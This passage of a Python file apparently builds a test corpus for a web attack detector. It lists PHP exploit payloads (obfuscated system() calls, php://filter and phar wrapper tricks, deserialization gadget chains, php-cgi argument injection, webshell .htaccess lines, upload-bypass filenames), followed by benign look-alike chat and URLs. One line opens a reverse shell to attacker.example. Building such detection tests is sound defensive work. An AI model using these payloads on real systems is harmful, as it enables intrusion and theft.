    "$f=base64_decode(\"c3lzdGVt\");$f(\"id\");",
    "(\"sys\".\"tem\")(\"id\");",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"cat /flag\");",
    "$f=\"\\163\\171\\163\\164\\145\\155\";$f(\"id\");",
    # no letters or digits: bitwise NOT and XOR of non-printable strings
    "(~\"" + _not("system") + "\")(~\"" + _not("id") + "\");",
    "$f=~\"" + _not("system") + "\";$f(~\"" + _not("cat /flag") + "\");",
    ("code=(~%8C%86%8C%8B%9A%92)(~%9C%9E%8B%DF%D0%99%93%9E%98);", "raw-query", "rs-raw-query"),
    ("code=(\"%13%19%13%14%05%0d\"^\"%60%60%60%60%60%60\")(\"%09%04\"^\"%60%60\");", "raw-query", "rs-raw-query"),
    "${$_=~\"" + _not("_GET") + "\"}[_](${$_}[__]);",
    _no_alnum_system_get(),
    # "assert" and "system" as whole words blacklisted
    "$x=\"ass\".\"ert\";$x($_POST[1]);",
    "$s=str_replace(\"x\",\"\",\"sxyxsxtxexm\");$s(\"id\");",
    "$f=implode([\"sy\",\"st\",\"em\"]);$f(\"whoami\");",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f(chr(105).chr(100));",
    "$f=pack(\"H*\",\"73797374656d\");$f(\"id\");",
    "$f=strtolower(\"SYSTEM\");$f($_GET[\"c\"]);",
    # variable variables and superglobal names as strings
    "${\"_GET\"}[\"a\"](${\"_GET\"}[\"b\"]);",
    "$a=\"_GET\";${$a}[0](${$a}[1]);",
    "$f=$_COOKIE[\"f\"];$f($_COOKIE[\"c\"]);",
    # reflection and complex string interpolation
    "(new ReflectionFunction(\"system\"))->invoke(\"id\");",
    "(new ReflectionFunction($_GET[0]))->invokeArgs([$_GET[1]]);",
    "\"{${system(\"id\")}}\"",
    "${@system($_GET[c])}",
]

# php-wrappers: stream wrappers into include / file_get_contents / file_exists (PHP 7 / 8)
WRAPPERS: list[Entry] = [
    # source of flag.php without executing it
    "php://filter/convert.base64-encode/resource=flag.php",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=flag.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/flag",
    "php://filter/string.toupper|string.rot13/resource=flag.php",
    "pHp://FilTer/convert.quoted-printable-encode/resource=/etc/passwd",
    # "base64" blacklisted: filter names are URL-decoded by PHP
    "php://filter/read=convert.%62ase64-encode/resource=flag.php",
    # the exit-prefix write bypass
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/write=string.rot13/resource=s.php",
    # iconv filter chains (no file needed)
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "PhP://InPuT",
    # data: wrapper (allow_url_include on)
    "data://text/plain,<?php system(\"cat /flag\");?>",
    "data://text/plain;base64," + _b64("<?php system($_GET['c']);?>"),
    "data:text/plain,<?php phpinfo();?>",
    "data:,<?=`id`?>",
    # expect:// (pecl expect installed)
    "expect://ls",
    "expect://cat /flag",
    # phar:// deserialization on file_exists / getimagesize of an uploaded "image"
    "phar:///var/www/html/uploads/7a3f.jpg/x",
    "phar://upload/exp.gif",
    # "^phar://" blacklisted: wrappers in front of phar
    "compress.zlib://phar:///tmp/sess_x/test.txt",
    "compress.bzip2://phar:///var/www/uploads/p.png",
    "php://filter/resource=phar:///var/www/uploads/p.png",
    # zip:// / rar:// into an uploaded archive
    "zip:///var/www/html/uploads/a.jpg%23s",
    "zip://uploads/avatar.zip#shell.php",
    "rar://uploads/a.rar#s.php",
    # glob:// lists directories past open_basedir
    "glob:///var/www/html/*",
    "glob:///f*",
    # ssh2 wrapper runs a command
    "ssh2.exec://ctf:ctf@127.0.0.1:22/cat%20/flag",
]

# php-object-injection: unserialize() of cookies / parameters (PHP 5.6-8.2; Laravel, Monolog, Guzzle, Yii2,
# ThinkPHP gadget chains; SoapClient SSRF)
MONOLOG_BUFFER = _o("Monolog\\Handler\\BufferHandler", [
    (_prot("handler"), "r:2;"), (_prot("bufferSize"), "i:-1;"),
    (_prot("buffer"), _a([("i:0;", _a([("i:0;", _s("id")), (_s("level"), "N;")]))])),
    (_prot("level"), "N;"), (_prot("initialized"), "b:1;"), (_prot("bufferLimit"), "i:-1;"),
    (_prot("processors"), _a([("i:0;", _s("current")), ("i:1;", _s("system"))]))])
FNSTREAM = "GuzzleHttp\\Psr7\\FnStream"
JAR = "GuzzleHttp\\Cookie\\FileCookieJar"
BASEJAR = "GuzzleHttp\\Cookie\\CookieJar"
SETCOOKIE = "GuzzleHttp\\Cookie\\SetCookie"
PIAPIA_TAIL = '";}s:5:"photo";s:10:"config.php";}'
OBJECT_INJECTION: list[Entry] = [
    # cookie holds a serialized user object
    _o("User", [("username", _s("admin")), ("isAdmin", "b:1;")]),
    # preg_match('/O:\d+:/') blocks: a plus sign before the length
    _o("FileReader", [("filename", _s("/flag"))], plus=True),
    _o("Backdoor", [("cmd", _s("cat /flag"))], plus=True),
    # __wakeup() resets the file: property count larger than real (CVE-2016-7124)
    _o("Flag", [("file", _s("flag.php"))], count=2),
    # "^O:" blocked: wrapped in an array
    _a([("i:0;", _o("Logger", [("logfile", _s("/var/www/html/s.php")),
                               ("data", _s("<?php system($_GET[0]);?>"))]))]),
    # session serializer differential (php_serialize writes, php reads)
    "|" + _o("Admin", [("cmd", _s("cat /flag"))]),
    # a reference makes the guess equal the secret
    _o("Secret", [("guess", "N;"), ("secret", "R:2;")]),
    # keywords blacklisted in the string: S: with hex escapes
    'O:4:"Exec":1:{S:3:"\\63md";S:9:"\\63at /flag";}',
    # loose comparison of the password with true
    _a([(_s("user"), _s("admin")), (_s("pass"), "b:1;")]),
    # C: custom serialization carries an object past an "O:" check
    _c("ArrayObject", "x:i:0;" + _o("Evil", [("cmd", _s("id"))]) + ";m:a:0:{}"),
    # Laravel PendingBroadcast -> Faker Generator (protected names with NUL bytes)
    _o("Illuminate\\Broadcasting\\PendingBroadcast", [
        (_prot("events"), _o("Faker\\Generator", [(_prot("formatters"), _a([(_s("dispatch"), _s("system"))]))])),
        (_prot("event"), _s("id"))]),
    # the same chain with NUL bytes written as S:\00 escapes
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{S:9:"\\00*\\00events";O:15:"Faker\\Generator":1:'
    '{S:13:"\\00*\\00formatters";a:1:{s:8:"dispatch";s:6:"system";}}S:8:"\\00*\\00event";s:9:"cat /flag";}',
    # Monolog SyslogUdpHandler -> BufferHandler
    _o("Monolog\\Handler\\SyslogUdpHandler", [(_prot("socket"), MONOLOG_BUFFER)]),
    # Guzzle FnStream (phpinfo on destruct) and FileCookieJar (file write)
    _o(FNSTREAM, [(_priv(FNSTREAM, "methods"), _a([(_s("close"), _s("phpinfo"))])), ("_fn_close", _s("phpinfo"))]),
    _o(JAR, [(_priv(JAR, "filename"), _s("/var/www/html/s.php")), (_priv(JAR, "storeSessionCookies"), "b:1;"),
             (_priv(BASEJAR, "cookies"), _a([("i:0;", _o(SETCOOKIE, [(_priv(SETCOOKIE, "data"), _a([
                 (_s("Expires"), "i:1;"), (_s("Discard"), "b:0;"),
                 (_s("Value"), _s("<?php system($_GET[0]); ?>"))]))]))])),
             (_priv(BASEJAR, "strictMode"), "N;")]),
    # Yii2 BatchQueryResult -> Faker Generator -> CreateAction (CVE-2020-15148)
    _o("yii\\db\\BatchQueryResult", [(_priv("yii\\db\\BatchQueryResult", "_dataReader"), _o("Faker\\Generator", [
        (_prot("formatters"), _a([(_s("close"), _a([
            ("i:0;", _o("yii\\rest\\CreateAction", [("checkAccess", _s("system")), ("id", _s("ls"))])),
            ("i:1;", _s("run"))]))]))]))]),
    # ThinkPHP 5.1 Windows pipes: file deletion on destruct
    _o("think\\process\\pipes\\Windows", [(_priv("think\\process\\pipes\\Windows", "files"),
                                           _a([("i:0;", _s("/var/www/html/.lock"))]))]),
    # SoapClient __call: SSRF with a CRLF-injected User-Agent to an internal service
    _o("SoapClient", [("uri", _s("http://127.0.0.1/")), ("location", _s("http://127.0.0.1:6379/")),
                      ("_user_agent", _s("x\r\nContent-Length: 0\r\n\r\nSET flag pwned\r\n")),
                      ("_soap_version", "i:1;")]),
    # POP chain through __toString / __invoke / __get (the "Show/Test/Modifier" write-up shape)
    _o("Show", [("source", _o("Show", [("source", _s("x")), ("str", _o("Test", [
        ("p", _o("Modifier", [(_prot("var"), _s("php://filter/read=convert.base64-encode/resource=flag.php"))]))]))])),
        ("str", "N;")]),
    # string grows after serialize (str_replace "where" -> "hacker"): the nickname escapes into photo
    "where" * len(PIAPIA_TAIL) + PIAPIA_TAIL,
    # base64 cookie of the admin object
    _b64(_o("User", [("username", _s("admin")), ("role", _s("admin"))])),
    # session upload progress name carries the object into the session file
    ("PHP_SESSION_UPLOAD_PROGRESS=" + urllib.parse.quote("|" + _o("Flag", [("file", _s("/flag"))])),
     "raw-query", "rs-raw-query"),
    # property count overflows, nested arrays of objects
    _a([("i:0;", _o("Cache", [("path", _s("/var/www/html/x.php")), ("data", _s("<?=`$_GET[1]`?>"))])),
        ("i:1;", "i:7;")]),
    _o("Template", [("cacheFile", _s("/var/www/html/t.php")), ("template", _s("<?php eval($_POST[1]);?>"))]),
]

# php-config-directives: php-cgi argument injection, PHP-FPM env, .user.ini / .htaccess contents, ini_set
CONFIG: list[Entry] = [
    # php-cgi query-string argument injection (CVE-2012-1823, CVE-2024-4577 soft hyphen)
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "raw-query", "rs-raw-query"),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "raw-query", "rs-raw-query"),
    ("-s", "raw-query", "rs-raw-query"),
    ("-d+auto_prepend_file%3d/etc/passwd+-n", "raw-query", "rs-raw-query"),
    ("-n+-d+safe_mode%3d0+-d+disable_functions%3d%22%22+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp://input",
     "raw-query", "rs-raw-query"),
    ("%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3d/flag", "raw-query", "rs-raw-query"),
    # PHP-FPM env injection through PATH_INFO (CVE-2019-11043)
    ("a=PHP_VALUE%0Aauto_prepend_file=a", "raw-query", "rs-raw-query"),
    "PHP_VALUE\nsession.auto_start=1",
    # .user.ini contents (upload allowed into a directory with a PHP file)
    "auto_prepend_file=shell.jpg",
    "auto_append_file=\"/var/www/html/uploads/1.gif\"",
    "auto_prepend_file=data://text/plain;base64," + _b64("<?php phpinfo();?>"),
    # .htaccess contents
    "php_value auto_prepend_file \"php://filter/convert.base64-decode/resource=/var/www/html/uploads/s.jpg\"",
    "php_flag engine on",
    "AddType application/x-httpd-php .jpg",
    "php_value auto_append_file .htaccess\n#<?php system($_GET['c']);?>",
    "<FilesMatch \"s.png\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
    "php_value zend.multibyte 1\nphp_value zend.script_encoding \"UTF-7\"",
    "php_value allow_url_include On",
    # ini_set in an eval sink: open_basedir escape and error_log write
    "mkdir(\"x\");chdir(\"x\");ini_set(\"open_basedir\",\"..\");chdir(\"..\");chdir(\"..\");chdir(\"..\");"
    "ini_set(\"open_basedir\",\"/\");echo file_get_contents(\"/flag\");",
    "ini_set(\"allow_url_include\",\"1\");include(\"http://attacker.example/s.txt\");",
    "ini_set(\"error_log\",\"/var/www/html/e.php\");error_log(\"<?php system($_GET[0]);?>\");",
    "ini_restore(\"disable_functions\");",
    # disable_functions bypass through LD_PRELOAD
    "putenv(\"LD_PRELOAD=/tmp/evil.so\");mail(\"a@b.c\",\"\",\"\",\"\");",
    # raw directives typed into a settings field that is written to an ini file
    "allow_url_fopen=On\nallow_url_include=On",
    "disable_functions=\nopen_basedir=/",
    "session.save_path=\"/var/www/html\"\nsession.serialize_handler=php",
]

# superglobals: $_GET / $_POST / $_COOKIE / $_SERVER / $_FILES / $_ENV / $GLOBALS in an eval sink, and
# extract() / parse_str() overwrites (PHP 5.6-8.2)
SUPERGLOBALS: list[Entry] = [
    "eval($_REQUEST[\"c\"]);",
    "print_r($GLOBALS);",
    "var_dump($_SERVER);",
    "echo $_ENV[\"FLAG\"];",
    "var_dump($GLOBALS[\"flag\"]);",
    "print_r(get_defined_vars());",
    "echo $_ENV[\"SECRET_KEY\"].getenv(\"DATABASE_URL\");",
    "highlight_file($_SERVER[\"SCRIPT_FILENAME\"]);",
    # "_GET" blacklisted: through $GLOBALS
    "$GLOBALS[\"_GET\"][0]($GLOBALS[\"_GET\"][1]);",
    "$GLOBALS[_GET][a]($GLOBALS[_GET][b]);",
    # command from a header nobody filters
    "assert($_SERVER[\"HTTP_X_A\"]);",
    "system($_SERVER[\"HTTP_USER_AGENT\"]);",
    "system($_COOKIE[cmd]);",
    "eval($HTTP_RAW_POST_DATA);",
    "eval(file_get_contents(\"php://input\"));",
    # uploaded temp file included before it is deleted
    "include($_FILES[\"f\"][\"tmp_name\"]);",
    "move_uploaded_file($_FILES[\"f\"][\"tmp_name\"],\"s.php\");",
    "echo file_get_contents($_POST[\"path\"]);",
    "system(\"ls \".$_SERVER[\"DOCUMENT_ROOT\"]);",
    # extract($_GET) / parse_str() / register_globals overwrites
    ("_SESSION[admin]=1", "raw-query", "rs-raw-query"),
    ("GLOBALS[flag]=1&_SESSION[user]=admin", "raw-query", "rs-raw-query"),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", "raw-query", "rs-raw-query"),
    ("_COOKIE[role]=admin", "raw-query", "rs-raw-query"),
    ("_POST[is_admin]=1&_REQUEST[debug]=1", "raw-query", "rs-raw-query"),
    ("_FILES[f][tmp_name]=/flag&_FILES[f][name]=x.txt", "raw-query", "rs-raw-query"),
    ("_ENV[PATH]=/tmp&GLOBALS[_ENV][HOME]=/tmp", "raw-query", "rs-raw-query"),
    "@extract($_POST);$cmd($arg);",
    "$_SESSION[\"admin\"]=1;$_SESSION[\"user\"]=\"admin\";",
]

# php-file-upload: upload names the challenge's extension check lets through (Apache mod_php, nginx + PHP-FPM)
UPLOAD_BODY = "GIF89a;"
UPLOAD: list[Entry] = [
    "shell.php",
    # "php" blacklisted: other extensions the handler maps
    "shell.php5",
    "shell.phtml",
    "shell.pht",
    "shell.phar",
    "shell.php7",
    "shell.phps",
    "shell.pgif",
    # case-sensitive blacklist
    "shell.pHp",
    "shell.PHP",
    "shell.Php5",
    # double extensions (Apache AddHandler) and the other order
    "shell.php.jpg",
    "avatar.png.phtml",
    "shell.php.xxx",
    # trailing dot / space / ADS (Windows), semicolon (IIS), NUL marker
    "shell.php.",
    "shell.php ",
    "shell.php::$DATA",
    "shell.php;.jpg",
    "shell.php%00.png",
    "shell.php....",
    # config files that turn images into PHP
    ".htaccess",
    ".user.ini",
    # name traversal out of the upload directory
    "../../var/www/html/s.php",
    "..%2fshell.php",
    # RFC 5987 filename* and well-known web shell names
    "filename*=UTF-8''sh%65ll.php",
    "c99.php",
    "b374k.php",
    "wso.phtml",
]

# php-high-risk-function-names: file and process functions in an eval sink (PHP 7 / 8), read the flag
HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "print_r(scandir(\"/\"));",
    "var_dump(file_get_contents(\"/flag\"));",
    "show_source(\"/flag\");",
    "readfile(\"/flag\");",
    "print_r(file(\"/etc/passwd\"));",
    "fpassthru(fopen(\"/flag\",\"r\"));",
    "copy(\"/flag\",\"/var/www/html/f.txt\");",
    "print_r(ini_get(\"disable_functions\"));",
    "print_r(posix_getpwuid(0));",
    # only [a-z_]+\((?R)?\) allowed: no arguments, no quotes
    "readfile(next(array_reverse(scandir(pos(localeconv())))));",
    "show_source(array_rand(array_flip(scandir(current(localeconv())))));",
    "eval(end(getallheaders()));",
    "eval(hex2bin(session_id(session_start())));",
    "var_dump(scandir(chr(ord(strrev(crypt(serialize(array())))))));",
    # no quotes: chr() strings
    "var_dump(scandir(chr(47)));",
    "echo implode(file(chr(47).chr(102).chr(108).chr(97).chr(103)));",
    # open_basedir / disable_functions bypasses
    "foreach(new DirectoryIterator(\"glob:///*\") as $f)echo $f,\"\\n\";",
    "echo (new SplFileObject(\"/flag\"))->fgets();",
    "FFI::cdef(\"int system(const char *command);\")->system(\"cat /flag > /tmp/f\");",
    "symlink(\"/flag\",\"/var/www/html/f\");",
    "imap_open(\"{x -oProxyCommand=echo\\t" + _b64("cat /flag>/tmp/o") + "|base64\\t-d|sh}\",\"\",\"\");",
    "mail(\"a@b.c\",\"x\",\"<?php system($_GET[0]);?>\",\"\",\"-X/var/www/html/m.php\");",
    "error_log(\"<?php system($_GET[0]);?>\",3,\"/var/www/html/e.php\");",
    "file_put_contents(\"shell.php\",\"<?php eval(\\$_POST[1]);?>\");",
    # reverse shell
    "$s=fsockopen(\"attacker.example\",4444);proc_open(\"sh\",[0=>$s,1=>$s,2=>$s],$p);",
    "echo base64_encode(file_get_contents(\"index.php\"));",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-client-template", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
SUB_CYCLES = {"php-file-upload": (["multipart-filename"], ["rs-multipart-filename"])}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "name", "bio", "url", "callback", "data", "sort", "message", "code"]
    boundary = "----WebKitFormBoundaryQm3v9XcTtL2pRz7a"
    upload = UPLOAD_BODY
    file_type = "image/gif"
    xml_places = ("xml", "rs-xml", "rs-raw-body")
    xml_controls = CONTROLS_BUT_NUL

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def xml_body(self, value: str, root: str, name: str) -> str:
        if value.startswith("<?xml"):
            return value   # the payload is the document (an SVG upload)
        return super().xml_body(value, root, name)

    # the payload is itself the query string, sent verbatim
    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + p.v)

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (CTF team chat and bios, training-lab searches, write-up prose, links
# to advisories and docs, profiles, upload names, ordinary headers)
CHAT = [
    "who's around this weekend for the CTF? registration closes Friday night",
    "I'll take the web challenges, someone else grab crypto and pwn",
    "flag format is CTF{...}, submit it in the scoreboard, not in this channel please",
    "the web 300 challenge is a PHP app with a login page and a file upload form",
    "got first blood on the XSS challenge, the admin bot visits whatever URL you report",
    "write-up for last year's web challenges is in the team drive, folder 2023-quals",
    "reminder: the training lab VPN config is pinned in #ctf-infra",
    "the challenge description says the filter blocks spaces and quotes, fun",
    "ok the intended solution used a php://filter chain, I went a totally different route",
    "the organizers released the source after the event, worth reading the upload handler",
    "our score: 2450 points, 14th place out of 600 teams, not bad for a first try",
    "someone please check if the challenge server is down or it's just me",
    "the admin bot runs headless Chrome 122 according to the hint",
    "I keep getting a 403 from the challenge, they probably put a WAF in front",
    "CSP on that page is script-src 'self', so no inline scripts at all",
    "turns out the bug was a missing htmlspecialchars in the search results page",
    "the PHP version is 7.4 judging by the X-Powered-By header",
    "for the deserialization challenge you need to read the class definitions in the source",
    "the upload only accepts .png and .jpg, and checks the magic bytes too",
    "pushed my notes for the AngularJS sandbox challenge, read them before Sunday",
    "let's do a 30 min retro on Monday: what went well, what we missed",
    "the SVG upload challenge was cute, never thought about SVGs being documents",
    "who has the Burp Suite Pro license this month?",
    "PortSwigger Web Security Academy labs are a great warm-up for the juniors",
    "did the DOM XSS labs on the Academy this morning, the jQuery ones took a while",
    "our internal training lab runs DVWA and Juice Shop, ask me for the URL",
    "please don't run scanners against the production app, use the lab instance",
    "the bug bounty triage for the stored XSS report is done, severity medium",
    "fix for the reflected XSS in the search page shipped in 4.12.1",
    "we now escape output in all Twig templates by default, autoescape is on",
    "the Vue app uses v-html in exactly one place, the changelog renderer, reviewing it",
    "upgrading AngularJS is not an option, we're migrating to Angular 17 instead",
    "DOMPurify bumped to 3.0.9 in the frontend, thanks dependabot",
    "the security headers PR adds Content-Security-Policy and X-Content-Type-Options",
    "the legacy PHP admin panel is finally being retired next quarter",
    "php-fpm logs show the worker restarting every few hours, memory leak in the image resize",
    "composer update pulled Monolog 3 and Guzzle 7.8, tests are green",
    "Laravel 11 upgrade notes are in Confluence, the queue config changed",
    "we disabled allow_url_fopen on the shared hosting boxes years ago",
    "phpinfo page on staging is now behind the VPN, it was public before",
    "does anyone know why our upload form rejects .webp files?",
    "the image upload limit is 5 MB, bump it in php.ini and the nginx config together",
    "the unserialize call in the cache layer was replaced with json_decode last sprint",
    "our coding standard forbids eval in PHP and JavaScript, the linter flags it",
    "please use filter_input instead of reading the superglobals directly in new code",
    "the iframe embed for the status page needs frame-ancestors updated",
    "the marketing site uses an SVG logo inline, so the sanitizer must allow svg tags there",
    "is the javascript bundle served with the right content type? Safari complains",
    "the onload handler in the old dashboard is gone, moved to addEventListener",
    "the data: URLs for fonts are blocked by our CSP, add font-src data: if needed",
    "I'm presenting the XSS basics talk to the support team on Thursday",
    "support asked what 'script' means in the error message from the template editor",
    "customer says the preview shows raw HTML tags, probably double escaping",
    "the exported CSV opens with formulas in Excel, we should prefix with a quote",
    "the Smarty templates in the old shop are now Twig, one less thing to maintain",
    "for the training, the lab has a deliberately vulnerable guestbook page",
    "the CTF team meets Tuesdays at 18:00 in room 3.14, pizza provided",
    "new members: start with picoCTF and OverTheWire, then join us for the live events",
    "the hint for web 500 was 'think about what the parser sees'",
    "my favorite challenge this year was the one with the length limit of 20 chars",
    "we were one flag away from the top 10, the last web challenge got us",
    "the scoreboard froze an hour before the end, as usual",
    "the organizers posted the official write-ups on their GitHub",
    "thanks everyone, great weekend, see you at the next one",
    "reminder that the bounty program excludes self-XSS and missing headers",
]

SEARCHES = [
    "ctf write-up", "xss", "php upload", "admin bot", "php 8.3 release", "angularjs migration", "vue 3",
    "content security policy", "dompurify", "svg logo", "iframe embed", "htmlspecialchars", "twig autoescape",
    "laravel", "monolog", "guzzle", "composer", "php-fpm", "phpinfo", "php.ini upload_max_filesize",
    "training lab", "juice shop", "dvwa", "burp suite", "portswigger academy", "bug bounty", "stored xss report",
    "javascript", "script editor", "onboarding script", "alert settings", "email alerts", "system status",
    "filter by team", "include archived", "data export", "expect delays", "serialize", "template editor",
    "ctf team",
]

PROSE = [
    "Please review the XSS report from the bug bounty program and confirm the fix in 4.12.1.",
    "The CTF team asked for a training lab with a deliberately vulnerable PHP guestbook.",
    "Customer reports that the alert settings page does not save the email address.",
    "Our system status page is embedded in an iframe on the help center.",
    "The support script for password resets was updated for the new login flow.",
    "Ticket 4821: template editor preview shows HTML tags instead of formatted text.",
    "Upload of company logo (SVG) fails with 'unsupported file type'.",
    "The PHP 7.4 servers are end of life; migration to PHP 8.2 is planned for Q3.",
    "Security training: cross-site scripting, output encoding and Content Security Policy.",
    "The legacy admin panel uses AngularJS 1.5; the replacement is built with Vue 3.",
    "Data export includes all users created since January, filtered by team.",
    "Please include the write-up of the web challenges in the quarterly newsletter.",
    "The onboarding script sends a welcome message and creates the Slack channel.",
    "Expect delays on the import job while the database migration runs tonight.",
    "Our Content Security Policy now blocks inline event handlers on the marketing site.",
    "Annual CTF event: 48 hours, teams of up to five, web, crypto, pwn and forensics.",
    "The report shows that the flag icon next to each user is missing in dark mode.",
    "Phishing simulation results: 12% of staff clicked the link, down from 20%.",
    "Release notes 4.12.1: fixed escaping of user names in the search results.",
    "Release notes 4.13.0: SVG avatars are converted to PNG on upload.",
    "Release notes 4.13.2: removed the unused phpinfo diagnostics page.",
    "The upload form accepts PNG, JPEG and PDF files up to 5 MB.",
    "Request from the CTF club: a room booking every Tuesday evening.",
    "Please remove the old JavaScript widget from the partner portal footer.",
    "The filter on the users page should remember the selected team.",
    "Vendor advisory received for the PHP image library; patch scheduled Thursday.",
    "The admin bot in the training lab uses a separate test account.",
    "The system administrator is on call this weekend.",
    "Our style guide asks for template literals instead of string concatenation.",
    "Audit finding: the old guestbook page echoes the name field without escaping.",
    "Serialize the settings as JSON, not with PHP serialize, for the new API.",
    "Please add the Angular and Vue teams to the frontend guild mailing list.",
    "Meeting notes: WAF tuning, CSP rollout, bug bounty scope update.",
    "The expression builder in reports supports sum, average and count.",
    "Script-free pages load faster on the kiosk devices in the lobby.",
]

URLS = [
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/releases/8_3_0.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://portswigger.net/web-security/deserialization",
    "https://github.com/cure53/DOMPurify/releases",
    "https://github.com/ambionics/phpggc",
    "https://ctftime.org/event/2284",
    "https://ctftime.org/writeups?tags=web",
    "https://github.com/acme-ctf/writeups/tree/main/2024/web",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://laravel.com/docs/11.x/upgrade",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://nvd.nist.gov/vuln/detail/CVE-2019-11043",
    "https://hackerone.com/reports/123456",
    "https://owasp.org/www-project-juice-shop/",
    "https://picoctf.org/resources",
    "https://blog.example.com/2024/03/ctf-season-recap",
]

PROFILES = [
    ("Ana Script", "Rua do Alecrim 12, Lisboa"),
    ("Jonas Alert", "Hauptstrasse 5, Berlin"),
    ("Mei Filter", "3-1 Marunouchi, Tokyo"),
    ("Dev Eval", "221 Baker Street, London"),
    ("Sam Include", "14 Rue de la Paix, Paris"),
    ("O'Connor Phar", "12 Grafton St, Dublin"),
    ("Lena Vue", "Kungsgatan 7, Stockholm"),
    ("Raj System", "MG Road 44, Bengaluru"),
    ("Chloé Svg", "Avenue Louise 120, Brussels"),
    ("Tomás Data", "Calle Mayor 3, Madrid"),
    ("Ivy Angular", "500 Market St, San Francisco"),
    ("Noor Expect", "Sheikh Zayed Rd, Dubai"),
    ("Kai Frame", "Queen St 101, Auckland"),
    ("Eva Style", "Via Roma 8, Torino"),
    ("Ben Upload", "King St W 200, Toronto"),
    ("CTF team captain", "Innovation Campus, Building 3"),
    ("Security Training Lab", "Room 3.14, 2nd floor"),
    ("Web Challenge Author", "Remote"),
    ("Zoë Object", "Nørregade 9, Copenhagen"),
    ("Hugo Marquee", "Rua Augusta 50, Porto"),
]

UPLOAD_NAMES = [
    "ctf-writeup-2024-web.pdf", "scoreboard-final.png", "team-photo.jpg", "xss-training-slides.pptx",
    "php-upgrade-plan.docx", "logo.svg", "phpinfo-before-upgrade.txt", "script-for-video.docx",
    "admin-bot-diagram.png", "iframe-embed-guide.pdf", "php-8-migration.xlsx", "vue-components.zip",
    "angular-to-vue-notes.md", "security-headers-checklist.pdf", "bug-bounty-report-4821.pdf",
    "training-lab-setup.md", "csp-report-sample.json", "upload-limits.csv", "alert-email-template.html",
    "system-architecture.drawio.png", "filter-presets.json", "challenge-ideas.txt", "serialize-vs-json.pdf",
    "onboarding-script.sh.txt", "photo (1).jpeg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/122.0.0.0 "
                   "Safari/537.36"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "PHP/8.2.18"),
    ("User-Agent", "WordPress/6.5.2; https://blog.example.com"),
    ("User-Agent", "Symfony HttpClient/Curl"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Referer", "https://ctftime.org/event/2284"),
    ("Referer", "https://portswigger.net/web-security/cross-site-scripting/dom-based"),
    ("Referer", "https://www.php.net/manual/en/function.htmlspecialchars.php"),
    ("Referer", "https://app.example.com/admin/users?q=script&page=2"),
    ("Referer", "https://www.google.com/search?q=php+upload+max+filesize"),
    ("Referer", "https://github.com/acme-ctf/writeups/blob/main/2024/web/README.md"),
    ("X-Api-Version", "2024-05-01"),
